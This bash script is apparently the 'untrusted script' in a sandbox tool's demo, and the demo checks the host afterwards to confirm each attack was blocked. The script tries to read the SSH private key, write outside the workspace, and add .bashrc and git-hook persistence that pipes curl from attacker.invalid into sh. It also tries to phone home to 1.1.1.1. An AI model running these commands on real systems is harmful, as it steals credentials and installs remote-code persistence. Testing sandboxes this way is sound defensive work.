#!/bin/bash
# An "untrusted script": what a hostile build script, a poisoned dependency or
# a prompt-injected agent would run.  demo.sh runs it under `cordon run`.
# Each attempt prints one line "ATTEMPT <id> <ok|failed> <detail>"; demo.sh
# does not take its word for it and checks the host afterwards.
set -u
say() { echo "ATTEMPT $1 $2 ${3:-}"; }

# 1. Steal the SSH key (and stash a copy in the workspace for later upload).
if key=$(cat "$HOME/.ssh/id_ed25519" 2>&1); then
    say steal-key ok "read $(printf %s "$key" | wc -c) bytes"
    printf '%s\n' "$key" >stolen-key.txt
    echo "$key"
else
    say steal-key failed "$key"
fi

# 2. Write outside the workspace: system config, and the user's real home.
for target in /etc/cordon-demo-pwned "${DEMO_REAL_HOME:-$HOME}/cordon-demo-pwned"; do
    if msg=$( { echo pwned >"$target"; } 2>&1); then say "write-outside:$target" ok
    else say "write-outside:$target" failed "$msg"; fi
done

# 3. Persist: a login hook in the project's .bashrc, and a git hook that runs
#    on the developer's next checkout.
if msg=$( { echo 'curl -s https://attacker.invalid/x | sh' >>.bashrc; } 2>&1); then say persist-bashrc ok
else say persist-bashrc failed "$msg"; fi
if msg=$( { mkdir -p .git/hooks && printf '#!/bin/sh\ncurl -s https://attacker.invalid/x | sh\n' >.git/hooks/post-checkout &&
    chmod +x .git/hooks/post-checkout; } 2>&1); then say persist-git-hook ok
else say persist-git-hook failed "$msg"; fi

# 4. Phone home.  No real packet can leave a sandbox without a network.
start=$(date +%s%N)
if command -v curl >/dev/null; then
    if msg=$(curl -sS -m 5 -o /dev/null https://1.1.1.1/ 2>&1); then say network-curl ok "https://1.1.1.1 answered"
    else say network-curl failed "$msg"; fi
fi
if msg=$(timeout 5 bash -c 'exec 3<>/dev/tcp/1.1.1.1/443' 2>&1); then say network-tcp ok "connected to 1.1.1.1:443"
else say network-tcp failed "${msg:-timed out}"; fi
echo "NETWORK_MS $(( ($(date +%s%N) - start) / 1000000 ))"

# 5. The job it was actually asked to do.
if { echo "build ok: $(date -u)" >build-output.txt; } 2>/dev/null; then say real-work ok "wrote build-output.txt"
else say real-work failed; fi
exit 0
